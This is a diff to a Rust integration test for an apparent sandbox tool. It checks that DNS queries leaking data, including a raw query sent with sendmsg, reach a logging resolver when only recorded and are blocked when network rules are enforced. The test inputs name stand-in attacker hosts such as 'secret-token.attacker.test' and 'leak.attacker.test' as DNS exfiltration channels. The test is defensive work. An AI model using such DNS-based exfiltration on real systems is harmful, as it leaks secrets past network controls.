@@ -73,6 +73,7 @@ fn egress_by_host_name() {
             "http://10.77.0.3:8080/",
             "http://attacker.test:8080/",
             "dns:secret-token.attacker.test",
+            "rawdns:leak.attacker.test",
         ],
     );
     // (Exit 1: the exfiltrating name does not exist; the query still arrived.)
@@ -80,6 +81,7 @@ fn egress_by_host_name() {
     assert_eq!(out.stdout.matches("hello from attacker").count(), 2);
     assert_eq!(log(&dir, "attacker.log").lines().count(), 2);
     assert!(log(&dir, "dns.log").contains("secret-token.attacker.test"));
+    assert!(log(&dir, "dns.log").contains("leak.attacker.test"));
 
     // Record the benign workload: one name from DNS, one from /etc/hosts.
     let (out, dir) = step(
@@ -206,6 +208,25 @@ fn egress_by_host_name() {
     let (out, dir) = enforce("exfil", ZONE, "kill", &["dns:secret-token.attacker.test"]);
     assert_eq!(out.code, Some(124), "{}", out.stderr);
     assert!(!log(&dir, "dns.log").contains("secret-token"), "query sent");
+
+    // A query sent with sendmsg (two iovecs) on a connected socket: checked and handed to the
+    // kernel from sbx's copy; an allowed name is answered, another one never leaves.
+    let (out, _) = enforce("sendmsg", ZONE, "kill", &["rawdns:registry.test"]);
+    assert_eq!(out.code, Some(0), "{}", out.stderr);
+    assert_eq!(out.stdout.trim(), "10.77.0.2");
+    let (out, dir) = enforce(
+        "sendmsg-exfil",
+        ZONE,
+        "kill",
+        &["rawdns:leak.attacker.test"],
+    );
+    assert_eq!(out.code, Some(124), "{}", out.stderr);
+    assert!(
+        out.stderr.contains("resolve leak.attacker.test"),
+        "{}",
+        out.stderr
+    );
+    assert!(!log(&dir, "dns.log").contains("leak"), "query sent");
 
     // Deny mode: the connect fails, the run goes on to the allowed fetch, exit 124 at the end.
     let (out, dir) = enforce("deny", ZONE, "deny", &["http://10.77.0.3:8080/", REGISTRY]);
